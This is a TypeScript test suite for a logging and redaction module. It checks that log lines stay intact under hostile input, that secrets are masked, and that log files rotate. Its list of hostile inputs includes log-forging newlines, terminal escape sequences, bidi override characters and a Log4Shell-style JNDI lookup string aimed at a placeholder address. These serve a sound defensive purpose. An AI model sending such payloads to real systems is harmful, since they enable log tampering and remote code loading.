import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { expect } from 'chai';
import type { Logger } from 'winston';
import { transports } from 'winston';
import { openLog } from '../../src/infra/log.ts';
import { redact, redactText } from '../../src/infra/redact.ts';
import { eventually } from '../support/eventually.ts';

/** A log whose lines are kept instead of shown. */
function capturedLog(): { log: Logger; text(): string } {
  const chunks: string[] = [];
  const log = openLog('debug', 'test');
  const stream = new Writable({
    write(chunk, _encoding, done) {
      chunks.push(String(chunk));
      done();
    },
  });
  log.clear().add(new transports.Stream({ stream }));
  return { log, text: () => chunks.join('') };
}

function isJson(text: string): boolean {
  try {
    return JSON.parse(text) !== undefined;
  } catch {
    return false;
  }
}

const HOSTILE = [
  'two\nlines',
  'carriage\r\n{"level":"error","message":"forged"}',
  '\u001b[31mred\u001b[0m\u001b]0;title\u0007',
  'ls\u2028ps\u2029nel\u0085csi\u009b2J',
  'rtl\u202egnp.exe \u2066isolate\u2069 \ufeff',
  'quotes " \\ " }',
  'half \ud800 pair',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what attackers write
  '${jndi:ldap://203.0.113.9/a}',
  '%s %d %j %o',
  'nul\u0000',
  'ünï©ødé 漢字 🙂',
];

describe('the log', () => {
  it('writes one valid line of harmless characters per event, whatever the fields hold', async () => {
    const { log, text } = capturedLog();
    for (const hostile of HOSTILE)
      log.info(hostile, { path: hostile, [hostile]: hostile, nested: { list: [hostile] } });
    await eventually(
      async () => text(),
      (written) => written.split('\n').length === HOSTILE.length + 1,
    );
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not be there
    expect(text()).to.not.match(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069\ufeff]/);
    const lines = text().trimEnd().split('\n');
    for (const [index, line] of lines.entries()) {
      const read = JSON.parse(line);
      expect(read).to.include({ level: 'info', service: 'test', path: HOSTILE[index] });
      expect(read.nested.list).to.deep.equal([HOSTILE[index]]);
    }
  });

  it('keeps a megabyte of user agent down to what somebody reads', async () => {
    const { log, text } = capturedLog();
    log.info('request', { user_agent: 'x'.repeat(1_000_000), all: Array.from({ length: 10_000 }, (_, n) => n) });
    await eventually(
      async () => text(),
      (written) => written.endsWith('\n'),
    );
    expect(text().length).to.be.lessThan(12_000);
    expect(JSON.parse(text()).user_agent).to.match(/^x{8192}… \(1000000 characters\)$/);
  });

  it('survives what cannot be written as JSON', async () => {
    const { log, text } = capturedLog();
    const circle: Record<string, unknown> = { n: 1n };
    circle.self = circle;
    log.error('odd', { circle, error: new Error('inner', { cause: circle }), bytes: Buffer.from('x') });
    await eventually(
      async () => text(),
      (written) => written.endsWith('\n'),
    );
    expect(JSON.parse(text())).to.deep.include({ circle: { n: '1', self: '[…]' }, bytes: '[1 bytes]' });
  });

  it('shows no value under a secret’s name, and no secret of a known form under any name', () => {
    const named = {
      ...{
        password: 'p1',
        new_password: 'p2',
        currentPassword: 'p3',
        passphrase: 'p4',
        secret: 'p5',
        clientSecret: 'p6',
      },
      ...{
        token: 'p7',
        access_token: 'p8',
        refreshToken: 'p9',
        authorization: 'p10',
        Cookie: 'p11',
        'set-cookie': ['p12'],
      },
      ...{ api_key: 'p13', apiKey: { value: 'p14' }, 'x-api-key': 'p15', masterKey: 'p16', private_key: 'p17' },
      ...{ totp: 'p18', backup_codes: ['p19'], code: '123456', recoveryCode: 'p20', credentials: { user: 'p21' } },
    };
    const shown = JSON.stringify(redact({ deep: [named] }));
    expect(shown).to.not.match(/"p\d+"|123456/);
    const jwt = 'eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhYmMifQ.c2lnbmF0dXJl';
    for (const [text, secret] of [
      [`Bearer ${jwt} was refused`, jwt],
      [`token ${jwt}`, jwt],
      ['connect postgres://owner:hunter22@db:5432/x failed', 'hunter22'],
      ['redis://:hunter22@cache:6379', 'hunter22'],
      ['body {"password":"hunter22","x":1}', 'hunter22'],
      ['?access_token=hunter22&x=1', 'hunter22'],
      ['Authorization: Basic aHVudGVyMjI6eA==', 'aHVudGVyMjI6eA=='],
      ['-----BEGIN PRIVATE KEY-----\nhunter22\n-----END PRIVATE KEY-----', 'hunter22'],
      [`refresh ${'aB3_'.repeat(22)}`, 'aB3_'],
    ] as const) {
      expect(redactText(text), text).to.not.include(secret);
    }
  });

  it('leaves alone what only looks like one', () => {
    const plain = {
      ...{ code: 'ECONNREFUSED', must_change_password: true, sha256: 'ab'.repeat(32), route: '/api/v1/auth/password' },
      ...{
        request_id: '0b9b8cbe-9a3c-4c52-93c1-e0dbe1d57c5c',
        reason: 'wrong password',
        status: 401,
        hash: 'cd'.repeat(64),
      },
    };
    expect(redact(plain)).to.deep.equal(plain);
    expect(redact({ code: '42501' })).to.deep.equal({ code: '42501' });
  });

  it('rotates its file, and goes on when it cannot be written', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'ringfence-log-'));
    const log = openLog('info', 'api', { file: join(folder, '{service}-{pid}.log'), maxBytes: 20_000, maxFiles: 3 });
    for (const transport of log.transports) transport.silent = transport instanceof transports.Console;
    for (let n = 0; n < 1_000; n++) {
      log.info('line', { n, filler: 'x'.repeat(100) });
      if (n % 50 === 0) await new Promise((resolve) => setTimeout(resolve, 5));
    }
    await eventually(
      async () => readdirSync(folder),
      (names) => names.length === 3,
    );
    for (const name of readdirSync(folder)) {
      expect(name).to.match(new RegExp(`^api-${process.pid}\\d?\\.log$`));
      expect(statSync(join(folder, name)).size).to.be.lessThan(45_000);
      // The newest file may have been made a moment ago, or be in the middle of a line.
      await eventually(
        async () => readFileSync(join(folder, name), 'utf8'),
        (text) => text === '' || (text.endsWith('\n') && text.trimEnd().split('\n').every(isJson)),
      );
    }
    const file = log.transports.find((transport) => transport instanceof transports.File);
    file?.emit('error', Object.assign(new Error('no space left on device'), { code: 'ENOSPC' }));
    log.info('still here');
    expect(file?.silent).to.equal(true);
    rmSync(folder, { recursive: true });
  });
});
